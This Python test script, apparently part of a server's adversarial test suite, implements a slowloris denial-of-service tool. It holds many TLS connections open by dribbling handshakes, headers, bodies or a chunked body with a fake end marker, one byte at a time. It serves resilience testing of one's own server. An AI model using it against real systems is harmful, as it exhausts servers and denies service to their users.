#!/usr/bin/env python3
# tests/adversary/dribbler.py - slowloris against a TLS server: COUNT connections from one source
# address, each dribbling a request one byte at a time. Loopback only.
#
#   dribbler.py --connect ADDR:PORT --source ADDR --count N [--interval S]
#               [--stage tls|headers|body|chunked]
#               [--duration S]
#
# Stages: tls opens TCP and sends nothing (a stalled handshake); headers completes the handshake
# and dribbles request headers that never end; body sends complete headers announcing a body, then
# dribbles the body; chunked opens a chunked body with a 0x400-byte chunk whose data holds
# "\n0\n\n" (a fake end of the body) and then dribbles "x\n\n" (what looks like a new
# request) every interval. One line per event, on stdout, with seconds since the start:
#   T conn I handshake ok       the TLS handshake completed
#   T conn I refused            the server closed it before or during the handshake
#   T conn I closed             the server closed it afterwards
#   T done OPEN                 --duration is over; OPEN connections were still open
import argparse
import socket
import ssl
import sys
import threading
import time

T0 = time.monotonic()
LOCK = threading.Lock()


def say(msg):
    with LOCK:
        sys.stdout.write("%.2f %s\n" % (time.monotonic() - T0, msg))
        sys.stdout.flush()


def closed(sock):
    # Non-blocking look: has the peer closed (EOF or reset)?
    try:
        sock.setblocking(False)
        try:
            data = sock.recv(1)
            return data == b""
        except (BlockingIOError, ssl.SSLWantReadError):
            return False
        finally:
            sock.setblocking(True)
    except (OSError, ssl.SSLError):
        return True


def one(i, opts, open_set):
    host, port = opts.connect.rsplit(":", 1)
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.bind((opts.source, 0))
    raw.settimeout(opts.duration + 5)
    try:
        raw.connect((host, int(port)))
    except OSError:
        say("conn %d refused" % i)
        return
    sock = raw
    if opts.stage != "tls":
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        try:
            sock = ctx.wrap_socket(raw)
        except (OSError, ssl.SSLError):
            say("conn %d refused" % i)
            return
        say("conn %d handshake ok" % i)
    with LOCK:
        open_set.add(i)
    step = 1
    if opts.stage == "body":
        head = b"POST /dns-query HTTP/1.1\r\nHost: m\r\nContent-Type: application/dns-message\r\n" \
            b"Content-Length: 4000\r\n\r\n"
        sock.sendall(head)
        payload = b"\0" * 4000
    elif opts.stage == "chunked":
        sock.sendall(b"POST /dns-query HTTP/1.1\r\nHost: m\r\nContent-Type: "
                     b"application/dns-message\r\nTransfer-Encoding: chunked\r\n\r\n"
                     b"400\r\nabc\n0\n\n")
        payload = b"x\n\n" * 300
        step = 3
    else:
        payload = b"GET /v1/health HTTP/1.1\r\nHost: m\r\n" + b"X-Slow: " + b"a" * 4000
    deadline = time.monotonic() + opts.duration
    k = 0
    while time.monotonic() < deadline:
        if closed(sock):
            break
        if opts.stage != "tls" and k < len(payload):
            try:
                sock.sendall(payload[k:k + step])
            except (OSError, ssl.SSLError):
                break
            k += step
        time.sleep(opts.interval)
    else:
        return
    with LOCK:
        open_set.discard(i)
    say("conn %d closed" % i)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--connect", required=True)
    ap.add_argument("--source", required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--interval", type=float, default=0.5)
    ap.add_argument("--stage", choices=("tls", "headers", "body", "chunked"), default="headers")
    ap.add_argument("--duration", type=float, default=20)
    opts = ap.parse_args()
    open_set = set()
    threads = [threading.Thread(target=one, args=(i, opts, open_set), daemon=True)
               for i in range(opts.count)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(opts.duration + 10)
    say("done %d" % len(open_set))


if __name__ == "__main__":
    main()
